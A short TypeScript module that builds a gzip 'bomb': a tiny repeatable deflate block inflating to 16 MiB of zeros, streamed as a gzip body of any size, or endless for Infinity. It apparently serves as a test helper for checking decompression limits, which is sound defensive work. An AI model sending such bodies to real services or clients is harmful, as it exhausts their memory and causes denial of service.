import { constants, createDeflateRaw } from 'node:zlib'

const blockBytes = 16 * 1024 * 1024
const gzipHeader = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])

/**
 * Raw deflate data of 16 MiB of zeros, 16 KiB long. It can be repeated: it ends on a byte boundary and has no
 * back-references.
 */
async function createBlock(): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 })
  const pieces: Buffer[] = []
  deflate.on('data', (piece: Buffer) => pieces.push(piece))
  deflate.write(Buffer.alloc(blockBytes))
  await new Promise<void>((resolve) => {
    deflate.flush(constants.Z_FULL_FLUSH, resolve)
  })
  deflate.destroy()
  return Buffer.concat(pieces)
}

/** A gzip body that inflates to the given number of zeros, in chunks of 16 KiB; endless for `Infinity`. */
export async function createGzipBomb(inflatedBytes: number): Promise<Iterable<Buffer>> {
  const block = await createBlock()
  return (function* () {
    yield gzipHeader
    for (let bytes = 0; bytes < inflatedBytes; bytes += blockBytes) yield block
  })()
}
